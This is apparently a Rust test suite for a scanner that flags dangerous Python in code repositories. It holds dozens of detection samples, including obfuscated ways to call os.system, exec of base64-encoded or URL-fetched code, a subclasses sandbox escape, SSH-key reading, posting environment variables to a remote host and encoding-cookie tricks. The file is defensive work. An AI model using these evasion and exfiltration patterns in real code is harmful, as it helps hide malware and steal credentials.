use ostrom_core::Severity;
use proptest::prelude::*;

use super::*;

/// The worst that is said of `source`, and by which rules.
fn verdict(source: &str) -> (Option<Severity>, Vec<&'static str>) {
    let deeds = read(source).deeds;
    let severity =
        |deed: &Deed| deed.severity.unwrap_or_else(|| crate::rules::rule(deed.rule).unwrap().severity);
    let worst = deeds.iter().map(severity).max();
    let rules = deeds.iter().map(|deed| deed.rule).collect::<BTreeSet<_>>();
    (worst, rules.into_iter().collect())
}

#[track_caller]
fn high(rule: &str, source: &str) {
    let (worst, rules) = verdict(source);
    assert!(worst >= Some(Severity::High) && rules.contains(&rule), "{source}\n{worst:?} {rules:?}");
}

#[test]
fn commands_are_found_by_whatever_name() {
    for source in [
        "import os\nos.system('id')",
        "import os as o\ndef f():\n    o.system('id')",
        "from os import system as s\ns('id')",
        "from os import *\nsystem('id')",
        "__import__('os').system('id')",
        "import importlib\nimportlib.import_module('o' + 's').popen('id')",
        "import os\ngetattr(os, 'sys' + 'tem')('id')",
        "import os\ngetattr(os, 'metsys'[::-1])('id')",
        "import os\ngetattr(os, ''.join(['sys', 'tem']))('id')",
        "import os\ngetattr(os, ''.join([chr(115), 'ystem']))('id')",
        "import os\nos.__dict__['system']('id')",
        "import os\nvars(os)['system']('id')",
        "import sys\nsys.modules['os'].system('id')",
        "import sys\nsys.modules.get('os').system('id')",
        "import logging\nlogging.os.system('id')",
        "import os\nf = os.system\nf('id')",
        "import os\nlist(map(os.system, ['id']))",
        "import os\n(lambda: os.system('id'))()",
        "import os\nx = f\"{os.system('id')}\"",
        "import os\nx = f\"\\{os.system('id')}\"",
        "import os\nx = f'{\"a\":{os.system(\"id\")}}'",
        "import os\n@os.system\nclass A: pass",
        "import operator, os\noperator.attrgetter('system')(os)('id')",
        "import subprocess\nsubprocess.run(['id'])",
        "import subprocess as s\nclass A:\n  def f(self):\n    return s.Popen('id', shell=True)",
        "import posix\nposix.system('id')",
        "import os\n\u{1d428}s.\u{ff53}ystem('id')",
        "import os # \ros.system('id')",
        "def f():\n    o.system('id')\nimport os as o",
        "import json as o\ndef f():\n    o.system('id')\nimport os as o\nf()",
        "if (s := __import__('subprocess')):\n    s.call('id')",
        "import os\nclass A:\n    x = os.system('id')",
        "import os;os.system('id')",
        "import os\nif True: os.system('id')",
        "import os\nfor m in [os]:\n    m.system('id')",
        "eval(\"__import__('os').system('id')\")",
        "exec('import os\\nos.system(1)')",
        "globals()['__builtins__'].__import__('os').system('id')",
        "import os\nx = {'a': os.system}",
        "a, b = 1, __import__('os')\nb.system('id')",
        "with __import__('os') as o: o.system('id')",
        "import os\nos.\\\nsystem('id')",
        "import os\ndef f(x=os.system('id')): pass",
    ] {
        high("python-commands", source);
    }
}

#[test]
fn hidden_code_is_found() {
    for source in [
        "import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))",
        "import base64, zlib\nx = zlib.decompress(base64.b64decode(y))\nexec(compile(x, 'a', 'exec'))",
        "import requests\nexec(requests.get('http://x').text)",
        "from urllib.request import urlopen\ncode = urlopen('http://x').read().decode()\neval(code)",
        "import marshal, types\nexec(marshal.loads(b'abc'))",
        "import os, base64\nos.system(base64.b64decode('aWQ=').decode())",
    ] {
        high("python-hidden-code", source);
        assert_eq!(verdict(source).0, Some(Severity::Critical), "{source}");
    }
}

#[test]
fn code_in_pieces_is_found() {
    for source in [
        "exec(bytes([105, 109]).decode())",
        "exec(''.join(map(chr, [105, 109])))",
        "exec(''.join(chr(c) for c in [105, 109]))",
    ] {
        high("python-hidden-code", source);
    }
}

#[test]
fn names_worked_out_at_run_time_are_reported() {
    for source in [
        "import os\ngetattr(os, name)('id')",
        "import builtins\ngetattr(builtins, x)('id')",
        "import base64\n__import__(base64.b64decode('b3M=').decode()).system('id')",
        "import os\ndef f(m): m.system('id')\nf(os)",
        "[c for c in ().__class__.__base__.__subclasses__() if c][0].__init__.__globals__['system']('id')",
        "import os\nos.__dict__[x]('id')",
        "import sys\nsys.meta_path.insert(0, x)",
        "__builtins__.eval",
    ] {
        high("python-obfuscated", source);
    }
}

#[test]
fn other_deeds_have_their_rules() {
    high("python-dynamic-code", "def f(x):\n    return eval(x)");
    high("python-dynamic-code", "e = eval\ne(x)");
    high("python-native-call", "import ctypes\nctypes.CDLL('libc.so.6')");
    high("python-network", "import socket\ns = socket.socket()");
    high("python-secrets", "import os\nopen(os.path.expanduser('~/.ssh/id_rsa')).read()");
    high("python-secrets", "from pathlib import Path\n(Path.home() / '.ssh').iterdir()");
    high("python-exfiltration", "import os, requests\nrequests.post('http://x', json=dict(os.environ))");
    assert_eq!(verdict("import torch\ntorch.load('x')").1, ["python-unpickles"]);
    assert_eq!(verdict("import torch\ntorch.load('x', weights_only=True)").0, None);
    assert_eq!(verdict("import torch\ntorch.hub.load('a/b', 'c')").1, ["python-remote-code"]);
    assert_eq!(
        verdict("from x import AutoModel\nAutoModel.from_pretrained('a', trust_remote_code=True)").1,
        ["python-remote-code"]
    );
    assert_eq!(verdict("import importlib\nimportlib.import_module(x)").1, ["python-dynamic-import"]);
    assert_eq!(
        verdict("import datasets\nclass A(datasets.GeneratorBasedBuilder):\n  pass").1,
        ["dataset-script"]
    );
}

#[test]
fn honest_code_is_clean() {
    for source in [
        "import os\nimport json\nx = os.path.join('a', 'b')\nwith open(x, encoding='utf-8') as f:\n    y = json.load(f)\n",
        "import re\np = re.compile('a')\nmodel.eval()\nmodel.compile()\n",
        "import torch\nm = torch.compile(model)\nx = getattr(torch, config.dtype)\n",
        "def f(eval=None, compile=True):\n    return g(eval=eval, compile=compile)\n",
        "\"\"\"Run os.system('id') never; see /etc/passwd.\"\"\"\nx = 1 # os.system('id')\n",
        "import os\nif os.environ.get('DEBUG', '0') == '1' and hasattr(os, 'sched_getaffinity'):\n    n = os.cpu_count()\n",
        "class M:\n    def exec(self): pass\n    def compile(self): return self.exec()\n",
        "x = ''.join(c for c in text if c.isalnum())\ny = '%s.%s' % ('a', 'b')\nz = f'{x!r:>{10}} {{y}}'\n",
        "import os, httpx\nx = os.environ.get('TOKENIZERS_PARALLELISM')\ntry:\n    f()\nexcept httpx.HTTPStatusError as e:\n    print(e.response.text)\n",
        "import subprocess\ntry:\n    f()\nexcept subprocess.CalledProcessError:\n    pass\n",
        "from .configuration_x import XConfig\nfrom . import utils\n",
        "import numpy as np\nx = np.load('a.npy')\n",
        "from os import path, makedirs\nimport sys\nprint(sys.version_info, file=sys.stderr)\n",
    ] {
        assert_eq!(verdict(source).0, None, "{source}\n{:?}", read(source).deeds);
    }
}

#[test]
fn siblings_that_are_imported_are_named() {
    let siblings =
        read("from .configuration_x import XConfig\nfrom . import utils\nimport helper\n").siblings;
    assert!(
        ["configuration_x", "utils", "helper"].iter().all(|name| siblings.contains(*name)),
        "{siblings:?}"
    );
}

#[test]
fn encodings_that_say_something_else_are_noticed() {
    assert_eq!(odd_encoding(b"# -*- coding: utf-7 -*-\n").as_deref(), Some("utf-7"));
    assert_eq!(
        odd_encoding(b"#!/usr/bin/env python\n# vim: set fileencoding=rot13 :\n").as_deref(),
        Some("rot13")
    );
    for bytes in [
        &b"# decoding note, coding: unicode_escape\n"[..],
        b"# encoding is what coding=unicode_escape says\n",
        b"\xef\xbb\xbf# coding: , coding: unicode_escape\n",
        b"\n# coding coding\r# codingcoding:\tunicode_escape\n",
        &[b"# ", &b"x".repeat(5000)[..], b" coding: unicode_escape\n"].concat(),
    ] {
        assert_eq!(
            odd_encoding(bytes).as_deref(),
            Some("unicode_escape"),
            "{}",
            String::from_utf8_lossy(bytes)
        );
    }
    // The first that names one counts.
    assert_eq!(odd_encoding(b"# coding: utf-8, coding: rot13\n"), None);
    for fine in
        ["# -*- coding: utf-8 -*-", "# coding=latin-1", "x = 'coding: rot13'", "# encoding the rot13 way"]
    {
        assert_eq!(odd_encoding(fine.as_bytes()), None, "{fine}");
    }
}

#[test]
fn depth_and_length_are_bounded() {
    for source in [
        "(".repeat(100_000),
        "[".repeat(100_000),
        "f(".repeat(50_000),
        "-".repeat(100_000),
        "x if ".repeat(50_000),
        // What is left over past the depth is no reason to look at all the rest again.
        format!("{}{}", "(".repeat(100_000), ")".repeat(100_000)),
        format!("{}{}", "[".repeat(100_000), "]".repeat(100_000)),
        format!("{}{}", "f(".repeat(100_000), ")".repeat(100_000)),
        format!("with {}{}", "(".repeat(100_000), ")".repeat(100_000)),
        ")".repeat(200_000),
    ] {
        read(&source);
    }
    assert_eq!(verdict(&"(".repeat(100_000)).1, ["python-unread"]);
    assert_eq!(verdict(&" ".repeat(LONGEST + 1)).1, ["python-unread"]);
    read(&format!("a = []\n{}", "a = [a]\n".repeat(50_000)));
    read(&format!("x = 'a'\n{}", "x = x + x\n".repeat(20_000)));
    read(&"f'{".repeat(3000));
    read(&"lambda: ".repeat(50_000));
}

const SAMPLE: &str = "import os as o\nfrom a import (b as c, d)\n@x\nclass A(B, metaclass=C):\n    async def f(self, *a: int, k='é', **kw) -> D:\n        return f\"{o.system('id')!r:>{w}}\" % (a, [b for b in c if d], {1: 2})[::-1]\n";

#[test]
fn every_truncation_is_read() {
    for end in 0..SAMPLE.len() {
        if let Some(part) = SAMPLE.get(..end) {
            read(part);
        }
    }
}

proptest! {
    #[test]
    fn no_text_makes_it_panic(text in "\\PC*") {
        read(&text);
    }

    #[test]
    fn no_change_makes_it_panic(at in 0..SAMPLE.len(), byte in any::<u8>()) {
        let mut bytes = SAMPLE.as_bytes().to_vec();
        bytes[at] = byte;
        read(&String::from_utf8_lossy(&bytes));
    }
}
